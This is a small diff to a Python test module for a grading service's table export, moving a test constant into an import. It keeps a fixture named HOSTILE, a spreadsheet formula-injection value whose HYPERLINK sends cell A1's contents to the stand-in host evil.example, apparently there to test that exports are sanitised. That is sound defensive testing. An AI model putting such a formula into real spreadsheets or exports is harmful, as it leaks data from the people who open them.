@@ -21,10 +21,9 @@ from grader_service.regrade.exports.rows import BATCH_COLUMNS, COHORT_COLUMNS, b
 from grader_service.regrade.exports.table import Form, write_table
 from grader_service.regrade.filters import rows_of
 from grader_service.store.cohorts import CohortEntry
-from tests.regrade.makers import MOMENT, a_change, a_check, a_standing, pending, repeated
+from tests.regrade.makers import MOMENT, NOISY, a_change, a_check, a_standing, pending, repeated
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-NOISY = {"throughput_ratio": "inconclusive"}
 
 
 def an_entry(submission_id="s:1", outcomes=None, filename="lab.ipynb", **changes):
